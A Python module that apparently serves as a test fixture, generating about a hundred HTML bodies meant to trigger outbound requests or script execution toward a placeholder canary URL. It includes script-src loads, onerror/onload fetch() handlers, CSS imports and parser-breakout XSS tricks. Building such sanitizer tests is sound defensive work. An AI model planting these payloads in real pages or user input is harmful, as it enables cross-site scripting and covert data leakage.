"""A hundred HTML bodies that try to reach out or to run something; `{canary}` is where they would be noticed."""

URLS = (
    "{canary}/x",
    "//{host}/x",
    "javascript:fetch('{canary}/x')",
    "data:text/html,<script src={canary}/x></script>",
)
_ELEMENTS = (
    '<img src="{u}">', "<img src={u}", '<img srcset="{u} 2x">', '<picture><source srcset="{u}"><img></picture>',
    '<video src="{u}" autoplay></video>', '<video poster="{u}"></video>', '<audio src="{u}" autoplay></audio>',
    '<iframe src="{u}"></iframe>', '<embed src="{u}">', '<object data="{u}"></object>', '<script src="{u}"></script>',
    '<link rel="stylesheet" href="{u}">', '<link rel="prefetch" href="{u}">', '<link rel="dns-prefetch" href="{u}">',
    '<base href="{u}"><img src="y">', '<meta http-equiv="refresh" content="0;url={u}">', '<body background="{u}">',
    '<table background="{u}"><tr><td background="{u}">x</table>', '<input type="image" src="{u}">',
    '<form action="{u}"><button autofocus>Go</button></form>', '<svg><image href="{u}"/></svg>',
)  # fmt: skip
_SINGLE = (
    "<script>fetch('{canary}/x')</script>", "<img src=x onerror=fetch('{canary}/x')>",
    "<svg onload=fetch('{canary}/x')>", "<body onload=fetch('{canary}/x')>", "<style>@import '{canary}/x';</style>",
    "<style>body{{background:url({canary}/x)}}</style>", '<p style="background:url({canary}/x)">x</p>',
    "<details open ontoggle=fetch('{canary}/x')>x</details>", "<math><mtext><img src='{canary}/x'></mtext></math>",
    '<noscript><p title="</noscript><img src={canary}/x>">', "<svg><style><img src={canary}/x></style></svg>",
    "<template><img src='{canary}/x'></template>", "<xmp><p title='</xmp><img src={canary}/x>'></xmp>",
    "<!--><img src={canary}/x>-->", "<![CDATA[><img src={canary}/x>]]>", "</iframe><img src={canary}/x>",
    "</body></html><script>fetch('{canary}/x')</script>", "<<img src={canary}/x>",
)  # fmt: skip


def bodies(canary: str) -> list[str]:
    """A hundred and two of them."""
    host = canary.partition("//")[2]
    urls = [url.replace("{canary}", canary).replace("{host}", host) for url in URLS]
    made = [element.replace("{u}", url) for element in _ELEMENTS for url in urls]
    return made + [text.replace("{canary}", canary).replace("{{", "{").replace("}}", "}") for text in _SINGLE]
